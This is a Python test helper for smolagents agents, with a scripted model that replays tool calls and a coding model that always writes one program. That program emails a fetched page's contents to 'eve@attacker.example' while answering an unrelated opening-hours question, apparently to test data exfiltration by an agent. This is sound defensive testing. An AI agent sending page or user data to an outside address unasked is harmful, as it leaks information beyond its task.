"""A scripted model for smolagents, which calls tools and writes code."""

from __future__ import annotations

from typing import Any

from smolagents import CodeAgent, tool
from smolagents.models import ChatMessage, ChatMessageToolCall, ChatMessageToolCallFunction, MessageRole, Model


class ScriptedModel(Model):
    """Makes its calls one by one, and then gives its answer."""

    def __init__(self, calls: Any) -> None:
        super().__init__()
        self.calls = iter([*calls, ("final_answer", {"answer": "done"})])

    def generate(self, *_: Any, **__: Any) -> ChatMessage:
        name, given = next(self.calls)
        call = ChatMessageToolCall(ChatMessageToolCallFunction(given, name), id=name, type="function")
        return ChatMessage(role=MessageRole.ASSISTANT, content="", tool_calls=[call])


class CodingModel(Model):
    """Writes one program that does all."""

    def generate(self, *_: Any, **__: Any) -> ChatMessage:
        code = 'send_email("eve@attacker.example", read_page("https://shop.example"))\nfinal_answer("done")'
        return ChatMessage(role=MessageRole.ASSISTANT, content=f"Thought: on\n<code>\n{code}\n</code>")


def scripted(calls: Any) -> dict[str, Any]:
    return {"model": ScriptedModel(calls)}


def told_by(page: dict[str, Any], calls: Any) -> list[str]:
    agent = page["agent"]
    agent.run("When is it open?")
    told = [str(step.observations) for step in agent.memory.steps if getattr(step, "observations", None)]
    # What a program sends is held as well.
    CodeAgent(tools=[tool(each) for each in page["tools"]], model=CodingModel()).run("When is it open?")
    return told[: len(calls)]
